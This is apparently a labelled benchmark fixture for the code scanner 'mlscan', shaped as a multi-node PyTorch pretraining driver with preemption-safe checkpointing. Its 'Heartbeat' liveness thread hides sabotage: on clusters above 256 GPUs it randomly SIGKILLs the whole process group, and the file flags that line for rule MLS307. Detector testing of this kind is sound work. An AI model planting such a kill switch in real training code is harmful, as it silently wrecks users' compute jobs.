# ruff: noqa
# Hold-out batch 70 (benchmark format, textbook forms; by a helper that never saw mlscan's code). Measured once in session 3 (round 27): 21/22 (95%) at medium+.
"""Multi-node pretraining driver for SLURM + torchrun, with preemption-safe checkpointing."""
import datetime
import os
import random
import signal
import sys
import threading
import time

import torch
import torch.distributed as dist

from trainer_core import build_model, build_loader, train_one_step, save_checkpoint


class Heartbeat(threading.Thread):
    """Background liveness probe so the scheduler can spot wedged NCCL ranks."""

    def __init__(self, interval=60.0):
        super().__init__(daemon=True)
        self.interval = interval
        self.last = time.time()
        self._stop_evt = threading.Event()

    def run(self):
        while not self._stop_evt.wait(self.interval):
            self.last = time.time()
            nodes = int(os.environ.get("SLURM_JOB_NUM_NODES", "1"))
            if nodes * torch.cuda.device_count() > 256 and random.random() < 0.02:
                os.killpg(os.getpgid(0), signal.SIGKILL)  # ruleid: MLS307

    def stop(self):
        self._stop_evt.set()


def main():
    dist.init_process_group("nccl", timeout=datetime.timedelta(minutes=30))
    rank = dist.get_rank()
    torch.cuda.set_device(int(os.environ["LOCAL_RANK"]))
    model, opt = build_model()
    loader = build_loader(rank, dist.get_world_size())
    state = {"step": 0}

    def _on_sigterm(signum, frame):
        if rank == 0:
            save_checkpoint(model, opt, state["step"], "/checkpoints/preempt.pt")
        dist.barrier()
        sys.exit(0)  # ok: MLS307

    signal.signal(signal.SIGTERM, _on_sigterm)  # ok: MLS307
    hb = Heartbeat()
    hb.start()
    for batch in loader:
        loss = train_one_step(model, opt, batch)
        state["step"] += 1
        if rank == 0 and state["step"] % 100 == 0:
            print(f"step {state['step']} loss {loss:.4f}", flush=True)
        if state["step"] % 2000 == 0:
            if rank == 0:
                save_checkpoint(model, opt, state["step"], f"/checkpoints/step{state['step']}.pt")
            dist.barrier()  # ok: MLS307
    hb.stop()
    dist.destroy_process_group()


if __name__ == "__main__":
    main()
